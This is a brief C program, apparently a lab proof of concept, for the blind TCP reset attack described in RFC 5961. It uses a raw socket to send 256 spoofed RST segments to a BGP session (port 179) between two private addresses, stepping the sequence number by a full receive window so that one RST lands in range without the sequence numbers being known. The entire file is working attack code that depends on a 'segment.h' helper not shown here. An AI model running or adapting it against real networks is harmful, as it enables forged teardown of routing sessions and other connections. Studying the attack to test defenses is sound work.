/* Blind reset: an attacker off the path, who knows the four-tuple and not the sequence numbers, tries one RST for each
   window that the sequence space has room for (Watson 2004, RFC 5961 §1.2). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "segment.h"

#define CLIENT "10.0.1.10"
#define CPORT 40000
#define SERVER "10.0.2.80"
#define SPORT 179
#define WINDOW (16 << 20) /* what the victim takes at once, octets */

int main(void) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), i;
  unsigned int seq = 0;

  for (i = 0; i < 256; i++) {
    segment(s, SERVER, SPORT, CLIENT, CPORT, seq, 0, RST, "");
    seq += WINDOW;
    usleep(1000);
  }
  printf("%d RSTs\n", i);
  return 0;
}
